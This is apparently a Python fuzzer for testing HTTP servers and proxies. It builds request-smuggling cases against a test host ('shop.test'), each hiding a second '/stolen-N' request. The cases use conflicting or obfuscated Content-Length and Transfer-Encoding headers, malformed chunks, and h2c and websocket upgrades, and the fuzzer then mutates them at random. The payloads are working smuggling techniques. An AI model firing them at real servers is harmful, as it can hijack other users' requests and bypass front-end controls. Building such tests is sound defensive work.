"""Requests as attackers make them: seeds of every known kind, and small changes of any of them, drawn from a seed.

A case carries its number: `/start-N` is what is asked, `/stolen-N` what is hidden in it.
"""

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

HOST = b"Host: shop.test\r\n"
_HIDDEN = b"GET /stolen-%d HTTP/1.1\r\nHost: shop.test\r\n\r\n"
_LENGTH, _CODING = b"Content-Length: ", b"Transfer-Encoding: "


@dataclass(frozen=True, slots=True)
class Case:
    """One attack: the seed it grew from, and what is sent."""

    number: int
    seed: str
    data: bytes


def _post(fields: bytes, body: bytes, version: bytes = b"1.1") -> bytes:
    return b"POST /start-%d HTTP/" + version + b"\r\n" + HOST + fields + b"\r\n" + body


def _chunk(content: bytes) -> bytes:
    return b"%x\r\n" % len(content) + content + b"\r\n"


def _seeds() -> dict[str, Callable[[int], bytes]]:
    """Name → the request of case N."""
    zero = b"0\r\n\r\n"

    def smuggling(fields: bytes, before: bytes = zero, after: bytes = b"") -> Callable[[int], bytes]:
        """In `fields` LEN is the length of the whole body, SHORT of what is before the hidden request."""

        def make(number: int) -> bytes:
            hidden = _HIDDEN % number
            body = before + hidden + after
            text = fields.replace(b"LEN", b"%d" % len(body)).replace(b"SHORT", b"%d" % len(before))
            return _post(text, b"").replace(b"%d", b"%d" % number) + body

        return make

    both = _LENGTH + b"LEN\r\n" + _CODING
    chunked = _CODING + b"chunked\r\n"
    names = (
        b"Transfer-Encoding",
        b"transfer_encoding",
        b"Transfer-Encoding ",
        b" Transfer-Encoding",
        b"Transfer Encoding",
    )
    values = (
        b"chunked", b"Chunked", b"xchunked", b"chunked, identity", b"identity, chunked", b"gzip, chunked",
        b"chunked, chunked", b"\x0bchunked", b"chunked\x0c", b'"chunked"', b"chunked;q=1", b"chunked\0", b" chunked ",
        b"chunk\xe9d", b"", b",chunked", b"cow", b"chunked\r\n ", b"\r\n chunked", b"\tchunked",
    )  # fmt: skip
    found = {f"both, {value!r}": smuggling(both + value + b"\r\n") for value in values}
    found |= {f"coding alone, {value!r}": smuggling(_CODING + value + b"\r\n") for value in values}
    found |= {f"named {name!r}": smuggling(_LENGTH + b"LEN\r\n" + name + b": chunked\r\n") for name in names}
    lengths = (
        b"+LEN", b"-1", b"LEN, LEN", b"SHORT, LEN", b"0x10", b"LEN\0", b" LEN", b"LEN ", b"1e1", b"LEN;", b"00000LEN",
        b"SHORT\r\nContent-Length: LEN", b"LEN\r\nContent-Length: SHORT", b"LEN\r\ncontent_length: SHORT",
        b"LEN\r\nContent-Length : SHORT", b"\x0bLEN", b"", b"99999999999999999999", b"SHORT\r\n LEN", b"LEN\xa0",
    )  # fmt: skip
    found |= {f"length {length!r}": smuggling(_LENGTH + length + b"\r\n") for length in lengths}
    chunks = (
        b"0 \r\n\r\n", b"0;a\r\n\r\n", b"0;a=\n\r\n\r\n", b"0\n\n", b"00000000000000000\r\n\r\n", b"0x0\r\n\r\n",
        b"+0\r\n\r\n", b"-0\r\n\r\n", b"5\r\nabcde0\r\n\r\n", b"5\r\nabcdeXX0\r\n\r\n", b"0\r\nX: y\r\n\r\n",
        b"0\r\nContent-Length: 5\r\n\r\n", b"0\r\n\r", b"5;" + b"x" * 40 + b"\r\nabcde\r\n0\r\n\r\n",
        b"ffffffffffffffff\r\n",
        b"2\r\nab\n0\r\n\r\n", b"1\r\nZ\r\nQ\r\n", b"0\r\r\n\r\n", b"0\r\nTransfer-Encoding: x\r\n\r\n",
        b"3;\rab\r\nabc\r\n0\r\n\r\n",
    )  # fmt: skip
    found |= {f"chunks {chunk[:20]!r}": smuggling(chunked, chunk) for chunk in chunks}
    connection = (
        b"Content-Length", b"Transfer-Encoding", b"Host", b"close, Content-Length", b"keep-alive, Transfer-Encoding",
        b"Upgrade", b"Cookie, X-Forwarded-For",
    )  # fmt: skip
    found |= {
        f"Connection: {option!r}": smuggling(b"Connection: " + option + b"\r\n" + _LENGTH + b"LEN\r\n")
        for option in connection
    }
    heads = {
        "pipelined": b"GET /start-N HTTP/1.1\r\nHOST\r\n",
        "get with a body": b"GET /start-N HTTP/1.1\r\nHOSTContent-Length: 43\r\n\r\n",
        "bare LF head": b"GET /start-N HTTP/1.1\nHost: shop.test\n\n",
        "HTTP/1.0 chunked": b"POST /start-N HTTP/1.0\r\nHOST" + chunked + b"\r\n0\r\n\r\n",
        "HTTP/0.9": b"GET /start-N\r\n",
        "h2c": b"GET /start-N HTTP/1.1\r\nHOSTConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABk\r\n\r\n",
        "websocket": b"GET /start-N HTTP/1.1\r\nHOSTConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x\r\n\r\n",
        "expect": b"POST /start-N HTTP/1.1\r\nHOSTExpect: 100-continue\r\nContent-Length: 5\r\n\r\nabcde",
        "expect of length 0": b"POST /start-N HTTP/1.1\r\nHOSTExpect: y 100-continue\r\nContent-Length: 0\r\n\r\n",
        "absolute form": b"GET http://shop.test/start-N HTTP/1.1\r\nHOST\r\n",
        "line in the target": b"GET /start-N HTTP/1.1\r\nX: y HTTP/1.1\r\nHOST\r\n",
        "spaces in the line": b"GET  /start-N  HTTP/1.1\r\nHOST\r\n",
        "folded host": b"GET /start-N HTTP/1.1\r\nHost: shop.test\r\n x\r\n\r\n",
        "empty name": b"GET /start-N HTTP/1.1\r\n: x\r\nHOST\r\n",
        "first field indented": b"GET /start-N HTTP/1.1\r\n Host: evil\r\nHOST\r\n",
        "empty lines first": b"\r\n\r\nGET /start-N HTTP/1.1\r\nHOST\r\n",
        "chunked, two chunks": b"POST /start-N HTTP/1.1\r\nHOST"
        + chunked
        + b"\r\n"
        + _chunk(b"abc")
        + _chunk(b"d")
        + zero,
        "chunked with trailer": b"POST /start-N HTTP/1.1\r\nHOST"
        + chunked
        + b"\r\n"
        + _chunk(b"abc")
        + b"0\r\nX-Check: 1\r\n\r\n",
    }

    def followed(head: bytes) -> Callable[[int], bytes]:
        return lambda number: head.replace(b"N ", b"%d " % number, 1).replace(b"HOST", HOST) + _HIDDEN % number

    found |= {name: followed(head.replace(b"/start-N\r\n", b"/start-N \r\n")) for name, head in heads.items()}
    return found


SEEDS = _seeds()
_ODD = (
    b"\r", b"\n", b"\r\n", b"\0", b"\t", b" ", b"\x0b", b"\x0c", b"\x7f", b"\x85", b"\xa0", b"\xff", b":", b",", b";",
    b"=", b"0", b"_", b"-", b"+", b"x", b"\r\n ", b"\r\r\n", b"\n\n", b"\xe2\x80\xa8", b'"', b"%00", b"%0d%0a",
)  # fmt: skip
_LINES = (
    b"Content-Length: 0", b"Content-Length: 5", b"Content-Length: 44", b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: identity", b"transfer-encoding : chunked", b"Host: evil.test", b"Connection: close",
    b"Connection: keep-alive, Content-Length", b"Upgrade: h2c", b"Expect: 100-continue", b"TE: trailers",
    b"Trailer: Host",
    b"Content_Length: 5", b"X: y\nTransfer-Encoding: chunked", b"X: y\rContent-Length: 44", b" folded", b"\tfolded: x",
)  # fmt: skip


def _insert(data: bytearray, draw: random.Random) -> None:
    place = draw.randrange(len(data) + 1)
    data[place:place] = draw.choice(_ODD)


def _replace(data: bytearray, draw: random.Random) -> None:
    place = draw.randrange(len(data))
    data[place : place + 1] = draw.choice(_ODD)


def _delete(data: bytearray, draw: random.Random) -> None:
    place = draw.randrange(len(data))
    del data[place : place + draw.randint(1, 3)]


def _around_colon(data: bytearray, draw: random.Random) -> None:
    places = [place for place, byte in enumerate(data[:400]) if byte == 0x3A]
    if places:
        place = draw.choice(places) + draw.randint(0, 1)
        data[place:place] = draw.choice(_ODD)


def _at_line_end(data: bytearray, draw: random.Random) -> None:
    places = [place for place, byte in enumerate(data) if byte == 0x0D]
    if places:
        place = draw.choice(places)
        data[place : place + 2] = draw.choice(
            (b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n\r\n", b"\x0b\r\n", b"\0\r\n", b" \r\n")
        )


def _add_line(data: bytearray, draw: random.Random) -> None:
    end = data.find(b"\r\n\r\n")
    places = [place + 2 for place in range(max(end, 0)) if data[place : place + 2] == b"\r\n"]
    if places:
        place = draw.choice(places)
        data[place:place] = draw.choice(_LINES) + b"\r\n"


def _change_number(data: bytearray, draw: random.Random) -> None:
    places = [place for place, byte in enumerate(data) if 0x30 <= byte <= 0x39]
    if places:
        data[draw.choice(places)] = draw.choice(b"0123456789abcdef")


def _swap_case(data: bytearray, draw: random.Random) -> None:
    place = draw.randrange(len(data))
    end = place + draw.randint(1, 12)
    data[place:end] = data[place:end].swapcase()


_CHANGES = (_insert, _replace, _delete, _around_colon, _at_line_end, _add_line, _change_number, _swap_case)
_WEIGHTS = (3, 2, 2, 4, 3, 4, 2, 1)


def cases(count: int, seed: int) -> Iterator[Case]:
    """`count` cases: first each seed as it is, then changed ones, the same for the same `seed`."""
    names = list(SEEDS)
    for number in range(count):
        draw = random.Random(f"{seed}:{number}")
        name = names[number % len(names)]
        data = bytearray(SEEDS[name](number))
        if number >= len(names):
            for change in draw.choices(_CHANGES, _WEIGHTS, k=draw.choice((1, 1, 1, 2, 2, 3))):
                change(data, draw)
        yield Case(number, name, bytes(data))
